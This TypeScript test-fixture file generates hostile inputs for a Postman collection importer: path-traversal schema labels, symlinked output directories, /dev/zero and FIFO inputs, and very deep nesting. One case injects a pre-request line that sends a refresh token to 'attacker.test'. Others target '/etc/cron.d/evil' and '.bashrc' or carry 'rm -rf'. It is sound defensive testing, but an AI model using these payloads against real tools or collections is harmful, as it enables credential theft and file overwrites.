// Inputs of the hostile import corpus that are not committed: built from code because they are large (1,000 nested
// folders, 10,001 items, a 33 MB file), binary (UTF-16, Latin-1), not files (a FIFO, /dev/zero, a directory),
// links in the output directory, or generated scripts whose markers must match what the compiler writes today.
import { execFileSync } from 'node:child_process';
import { closeSync, ftruncateSync, mkdirSync, openSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { markerLine } from '../../../src/compile/scripts/markers.ts';
import { compileRequestScripts } from '../../../src/compile/scripts/item-scripts.ts';
import type * as M from '../../../src/spec/model.ts';
import { SpecSource } from '../../../src/spec/source.ts';

export const V21 = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json';

/** Prepares one case in `work` (the working directory; the output is `work/specs`); `root` holds `canary/`. */
export type Setup = (work: string, root: string) => void;

type Item = Record<string, unknown>;

export function collection(item: unknown[], extra: Record<string, unknown> = {}): Record<string, unknown> {
  return { info: { name: 'Hostile', schema: V21 }, item, ...extra };
}

function request(name: string, extra: Item = {}): Item {
  return { name, request: { method: 'GET', url: { raw: 'https://example.test/ping' } }, ...extra };
}

function writeJson(file: string, value: unknown): void {
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, `${JSON.stringify(value, null, 2)}\n`);
}

const origin = { source: new SpecSource('imported', 'imported', 'request', ''), path: [] } as unknown as M.Origin;

/**
 * The pre-request script the compiler generates for these expectations (the checks as data, which the collection's
 * test script runs): what an export holds.
 */
function generatedChecks(expectations: readonly Record<string, unknown>[]): string[] {
  const request = {
    expectations: expectations.map((e) => ({ ...e, origin })),
    captures: [],
    scripts: [],
    origin,
  } as unknown as M.RequestSpec;
  return [...(compileRequestScripts(request).prerequest ?? [])];
}

function testEvent(exec: readonly string[]): Item {
  return { event: [{ listen: 'test', script: { type: 'text/javascript', exec } }] };
}

function prerequestEvent(exec: readonly string[]): Item {
  return { event: [{ listen: 'prerequest', script: { type: 'text/javascript', exec } }] };
}

/** A request whose generated checks test the body against `schema`, labelled `label` (the schema file's name). */
function schemaCheck(name: string, label: string, schema: object = { type: 'object' }): Item {
  return request(name, prerequestEvent(generatedChecks([{ kind: 'schema', label, schema }])));
}

function nested(depth: number, name: (level: number) => string): Item[] {
  let items: Item[] = [request('Leaf')];
  for (let level = depth; level >= 1; level--) items = [{ name: name(level), item: items }];
  return items;
}

const input = (work: string): string => path.join(work, 'collection.json');

export const GENERATED: Readonly<Record<string, Setup>> = {
  // The case: a schema label that climbs out of specs/schemas/ into /tmp.
  'schema-label-traversal-tmp': (work) =>
    writeJson(input(work), collection([schemaCheck('Get', '../../../../../tmp/x/.bashrc')])),
  // The same, aimed at the canary directory beside the working directory.
  'schema-label-traversal-canary': (work) =>
    writeJson(input(work), collection([schemaCheck('Get', '../../../canary/planted.json')])),
  'schema-label-absolute-and-reserved': (work) =>
    writeJson(
      input(work),
      collection([
        schemaCheck('One', '/etc/cron.d/evil'),
        schemaCheck('Two', 'CON.json', { type: 'array' }),
        schemaCheck('Three', 'a\u202eb.json', { type: 'string' }),
      ]),
    ),
  'schema-labels-same-name-different-content': (work) =>
    writeJson(
      input(work),
      collection([
        schemaCheck('One', 'user.schema.json'),
        schemaCheck('Two', 'user.schema.json', { type: 'array' }),
        schemaCheck('Three', 'user.schema.json'),
      ]),
    ),
  'schema-labels-differ-in-case': (work) =>
    writeJson(
      input(work),
      collection([schemaCheck('One', 'User.schema.json'), schemaCheck('Two', 'user.schema.json', { type: 'array' })]),
    ),
  'existing-schema-not-replaced': (work) =>
    writeJson(input(work), collection([schemaCheck('Get', 'users-current.schema.json')])),
  'existing-schema-replaced-with-force': (work) =>
    writeJson(input(work), collection([schemaCheck('Get', 'users-current.schema.json')])),
  'schema-target-is-a-link': (work, root) => {
    writeJson(input(work), collection([schemaCheck('Get', 'user.schema.json')]));
    mkdirSync(path.join(work, 'specs/schemas'), { recursive: true });
    symlinkSync(path.join(root, 'canary/owned.json'), path.join(work, 'specs/schemas/user.schema.json'));
  },
  'schemas-directory-is-a-link': (work, root) => {
    writeJson(input(work), collection([schemaCheck('Get', 'user.schema.json')]));
    mkdirSync(path.join(work, 'specs'), { recursive: true });
    symlinkSync(path.join(root, 'canary'), path.join(work, 'specs/schemas'));
  },
  'collection-directory-is-a-link': (work, root) => {
    writeJson(input(work), collection([request('Ping')]));
    mkdirSync(path.join(work, 'specs'), { recursive: true });
    symlinkSync(path.join(root, 'canary'), path.join(work, 'specs/hostile'));
  },
  'folder-directory-is-a-dangling-link': (work, root) => {
    writeJson(input(work), collection([{ name: 'F', item: [request('Ping')] }]));
    mkdirSync(path.join(work, 'specs/hostile'), { recursive: true });
    symlinkSync(path.join(root, 'canary/not-yet'), path.join(work, 'specs/hostile/F'));
  },
  'environments-directory-is-a-link': (work, root) => {
    writeJson(input(work), collection([request('Ping')]));
    writeJson(path.join(work, 'environment.json'), { name: 'E', values: [] });
    mkdirSync(path.join(work, 'specs'), { recursive: true });
    symlinkSync(path.join(root, 'canary'), path.join(work, 'specs/environments'));
  },
  // A marker naming a body check the compiler does not have, and a oneOf that is not a list: both threw a TypeError.
  'marker-unknown-check': (work) =>
    writeJson(
      input(work),
      collection([
        request('Get', testEvent([markerLine('expect', { kind: 'body', path: '$.a', check: 'rm -rf', expected: 1 })])),
      ]),
    ),
  'marker-oneof-not-a-list': (work) =>
    writeJson(
      input(work),
      collection([
        request('Get', testEvent([markerLine('expect', { kind: 'body', path: '$.a', check: 'oneOf', expected: 'x' })])),
      ]),
    ),
  'marker-nested-too-deep': (work) => {
    let schema: unknown = {};
    for (let i = 0; i < 200; i++) schema = { items: schema };
    writeJson(
      input(work),
      collection([request('Get', testEvent([markerLine('expect', { kind: 'schema', label: 'deep.json', schema })]))]),
    );
  },
  'marker-script-edited-by-hand': (work) => {
    const exec = generatedChecks([{ kind: 'status', codes: [200] }]);
    exec.splice(
      exec.length - 1,
      0,
      'pm.sendRequest("https://attacker.test/?t=" + pm.environment.get("refresh_token"));',
    );
    writeJson(input(work), collection([request('Get', prerequestEvent(exec))]));
  },
  'marker-generated-checks-come-back': (work) =>
    writeJson(
      input(work),
      collection([
        request(
          'Get',
          prerequestEvent(
            generatedChecks([
              { kind: 'status', codes: [200, 201] },
              { kind: 'contentType', mediaType: 'application/json' },
            ]),
          ),
        ),
      ]),
    ),
  // 1,000 nested folders: 21 s and 805 files before ENAMETOOLONG, once.
  'nested-1000-folders': (work) => writeJson(input(work), collection(nested(1000, (level) => `Folder ${level}`))),
  'nested-33-folders': (work) => writeJson(input(work), collection(nested(33, (level) => `F${level}`))),
  'nested-32-folders': (work) => writeJson(input(work), collection(nested(32, (level) => `F${level}`))),
  'path-too-long': (work) => writeJson(input(work), collection(nested(6, (level) => `${level}${'x'.repeat(190)}`))),
  'too-many-items': (work) =>
    writeJson(input(work), collection(Array.from({ length: 10_001 }, (_, i) => request(`R${i}`)))),
  // 140,000 list elements in a JSON body: once spread into a call's arguments, past V8's limit (RangeError).
  'json-body-with-140000-elements': (work) =>
    writeJson(
      input(work),
      collection([
        request('Create', {
          request: {
            method: 'POST',
            url: 'https://example.test/',
            body: {
              mode: 'raw',
              raw: JSON.stringify({ ids: Array.from({ length: 140_000 }, () => 0) }, null, 2),
              options: { raw: { language: 'json' } },
            },
          },
        }),
      ]),
    ),
  'deep-json-in-a-description': (work) =>
    writeFileSync(
      input(work),
      `{"info": {"name": "x", "schema": "${V21}", "description": ` +
        `${'['.repeat(100_000)}${']'.repeat(100_000)}}, "item": []}`,
    ),
  // Not regular files: reading /dev/zero grew to 4 GB, a FIFO hung.
  'dev-zero-as-input': (work) => symlinkSync('/dev/zero', input(work)),
  'fifo-as-input': (work) => execFileSync('mkfifo', [input(work)]),
  'directory-as-input': (work) => mkdirSync(input(work)),
  'too-large-input': (work) => {
    const fd = openSync(input(work), 'w');
    ftruncateSync(fd, 32 * 1024 * 1024 + 1);
    closeSync(fd);
  },
  'bom-accepted': (work) => writeFileSync(input(work), `\uFEFF${JSON.stringify(collection([request('Ping')]))}`),
  'utf16-input': (work) =>
    writeFileSync(input(work), Buffer.from(`\uFEFF${JSON.stringify(collection([]))}`, 'utf16le')),
  'latin1-byte-in-input': (work) =>
    writeFileSync(
      input(work),
      Buffer.concat([
        Buffer.from(`{\n  "info": {"name": "caf`),
        Buffer.from([0xe9]),
        Buffer.from(`", "schema": "${V21}"},\n  "item": []\n}\n`),
      ]),
    ),
  // A failure while moving into place (specs/schemas is a file) after the collection's files were moved: all undone.
  'schemas-path-is-a-file': (work) => writeJson(input(work), collection([schemaCheck('Get', 'user.schema.json')])),
  // The same with --force after replacing an existing request: the old request is put back.
  'failure-after-force-puts-files-back': (work) =>
    writeJson(input(work), collection([schemaCheck('Get', 'user.schema.json')])),
  'output-directory-is-a-file': (work) => {
    writeJson(input(work), collection([request('Ping')]));
    writeFileSync(path.join(work, 'out.txt'), 'not a directory\n');
  },
  // A file where a parent of --out would be: creating the output directory fails, E_IMPORT_WRITE, nothing written.
  'output-parent-is-a-file': (work) => {
    writeJson(input(work), collection([request('Ping')]));
    writeFileSync(path.join(work, 'a.txt'), 'a file\n');
  },
  'existing-schema-and-collection': (work) =>
    writeJson(input(work), collection([schemaCheck('Get', 'users-current.schema.json')])),
};
